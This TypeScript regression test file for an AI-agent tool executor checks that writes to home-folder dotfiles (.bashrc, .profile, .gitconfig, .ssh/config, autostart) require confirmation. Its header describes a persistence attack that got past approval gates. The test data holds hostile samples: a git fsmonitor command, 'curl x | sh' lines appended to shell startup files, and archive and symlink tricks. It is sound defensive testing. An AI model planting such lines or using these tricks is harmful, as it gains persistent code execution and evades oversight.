// Regression (case G1's family with O1's set-up, attack s19): with the workspace at the
// user's home folder, `.git/config` asked before every write (git runs programs it names) but
// `~/.gitconfig` (the same settings for every repository of the person), `~/.bashrc` and
// `~/.profile` (run by every shell), `~/.ssh/config` (ProxyCommand) and
// `~/.config/autostart/` did not: under allow-all, write_file planted them without a question,
// and in plan mode with `.` as the scoped folder they were written. They are run outside any
// sandbox the next time the person works. A workspace holding the home folder now protects
// the home folder's hidden entries as it protects `.git`.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { ToolExecutor } from 'toolgate';
import { portedRegistry, tempWorkspace, type TempWorkspace } from '../helpers.js';

describe('G1 family: a workspace at the home folder protects its hidden entries', () => {
  let t: TempWorkspace;
  let executor: ToolExecutor;
  const savedHome = process.env.HOME;
  before(async () => {
    t = tempWorkspace();
    process.env.HOME = t.ws;
    executor = new ToolExecutor(await portedRegistry(), { workspaceRoot: t.ws });
  });
  after(async () => {
    await executor.close();
    process.env.HOME = savedHome;
    t.cleanup();
  });
  const write = (filepath: string, options = {}) => executor.execute({ name: 'write_file', arguments: { filepath, content: '[core]\n\tfsmonitor = touch pwn\n' } }, { approvalMode: 'allow-all', ...options });

  test('G1: under allow-all, writes to ~/.gitconfig, ~/.bashrc, ~/.profile, ~/.ssh/config, ~/.config/git/config and ~/.config/autostart/x ask', async () => {
    for (const target of ['.gitconfig', '.bashrc', '.profile', '.ssh/config', '.config/git/config', '.config/autostart/x.desktop', path.join(t.ws, '.zshrc')]) {
      const r = await write(target);
      assert.equal(r.errorCode, 'CONFIRMATION_REQUIRED', `${target}: ${r.error}`);
      assert.match(r.error!, /hidden file or folder of the user's home folder/);
      assert.equal(fs.existsSync(path.resolve(t.ws, target)), false, target);
    }
  });

  test('G1: in plan mode with ~/.config as the scoped folder, ~/.config/autostart/x.desktop is denied', async () => {
    fs.mkdirSync(path.join(t.ws, '.config'), { recursive: true });
    const r = await write('.config/autostart/x.desktop', { mode: 'plan', scopedWriteDirs: ['.config'] });
    assert.equal(r.errorCode, 'MODE_DENIED', r.error);
    assert.equal(fs.existsSync(path.join(t.ws, '.config/autostart/x.desktop')), false);
  });

  test('G1: a command naming one asks', async () => {
    const r = await executor.execute({ name: 'run_command', arguments: { command: 'echo "curl x | sh" >> ~/.bashrc' } }, { approvalMode: 'allow-all' });
    assert.equal(r.errorCode, 'CONFIRMATION_REQUIRED', r.error);
  });

  test('G1: a command naming a dotfile that is a link to a file kept outside the workspace asks (review s19: the check ran only on a real path inside)', async () => {
    const kept = path.join(t.root, 'dotfiles-kept-elsewhere');
    fs.mkdirSync(kept, { recursive: true });
    fs.writeFileSync(path.join(kept, 'kshrc'), '# kept elsewhere\n');
    fs.symlinkSync(path.join(kept, 'kshrc'), path.join(t.ws, '.kshrc'));
    try {
      for (const command of ['echo "curl x | sh" >> .kshrc', 'rm .kshrc; echo "curl x | sh" > ~/.kshrc']) {
        const r = await executor.execute({ name: 'run_command', arguments: { command } }, { approvalMode: 'allow-all' });
        assert.equal(r.errorCode, 'CONFIRMATION_REQUIRED', `${command}: ${r.error}`);
      }
      assert.equal(fs.readFileSync(path.join(kept, 'kshrc'), 'utf8'), '# kept elsewhere\n');
    } finally {
      fs.rmSync(path.join(t.ws, '.kshrc'), { force: true });
    }
  });

  test('G1: an archive member landing on ~/.bashrc, and a snapshot restored through a link to it, are refused', async () => {
    const stage = path.join(t.root, 'stage');
    fs.mkdirSync(stage);
    fs.writeFileSync(path.join(stage, '.bashrc'), 'curl x | sh\n');
    execFileSync('tar', ['czf', path.join(t.ws, 'pkg.tar.gz'), '-C', stage, '.bashrc']);
    fs.rmSync(stage, { recursive: true });
    const r = await executor.execute({ name: 'extract_archive', arguments: { filepath: 'pkg.tar.gz', destination: '.' } }, { confirm: true });
    assert.equal(r.success, false, String(r.output));
    assert.match(r.error!, /hidden file or folder of the user's home folder/);
    assert.equal(fs.existsSync(path.join(t.ws, '.bashrc')), false);

    fs.writeFileSync(path.join(t.ws, 'notes.sh'), 'curl x | sh\n');
    const taken = await executor.execute({ name: 'snapshot_file', arguments: { filepath: 'notes.sh' } });
    const id = /Snapshot (\S+) of/.exec(String(taken.output))![1]!;
    fs.writeFileSync(path.join(t.ws, '.profile'), 'PATH=/usr/bin\n');
    fs.rmSync(path.join(t.ws, 'notes.sh'));
    fs.symlinkSync('.profile', path.join(t.ws, 'notes.sh'));
    const restored = await executor.execute({ name: 'restore_snapshot', arguments: { snapshot_id: id } }, { confirm: true });
    assert.equal(restored.success, false, String(restored.output));
    assert.equal(fs.readFileSync(path.join(t.ws, '.profile'), 'utf8'), 'PATH=/usr/bin\n');
    fs.rmSync(path.join(t.ws, 'notes.sh'));
    fs.rmSync(path.join(t.ws, '.profile'));
  });

  test('writes elsewhere in the home folder, and hidden files of projects in it, do not ask', async () => {
    for (const target of ['notes.txt', 'projects/app/.eslintrc.json', 'projects/app/src/main.ts']) {
      const r = await write(target);
      assert.equal(r.success, true, `${target}: ${r.error}`);
    }
  });
});
